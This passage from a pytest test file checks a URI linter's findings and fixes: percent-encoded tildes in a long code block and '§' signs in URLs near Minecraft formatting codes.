@pytest.mark.parametrize("text, filename, expected, fixed, unsafe", SWEEP193_CASES)
def test_triaged(text: str, filename: str, expected: list[tuple[int, int, str]],
                 fixed: str | None, unsafe: str | None) -> None:
    assert_triaged(text, filename, expected, fixed, unsafe)


def test_a_long_code_block_stays_code() -> None:
    assert len(LONG_CODE_BLOCK) > 8192
    assert findings(LONG_CODE_BLOCK, "web-backdoors/jsp/browser.jsp") == [(207, 30, "URI002")]
    assert stable_fix(LONG_CODE_BLOCK, "web-backdoors/jsp/browser.jsp") == LONG_CODE_BLOCK.replace("%7euser", "~user")


def test_a_section_sign_in_a_path_is_kept_without_a_formatting_code_before() -> None:
    """A "§" with a digit ending a path is a real one when no Minecraft
    formatting code stands before the URL (sweep 197: a German law's URL)."""
    assert findings("Paragraph: https://e.org/gesetz/\u00a71 and \u00a7bhttps://e.org/a\u00a7r\n", "notes.txt") == [
        (1, 33, "URI005"),
    ]
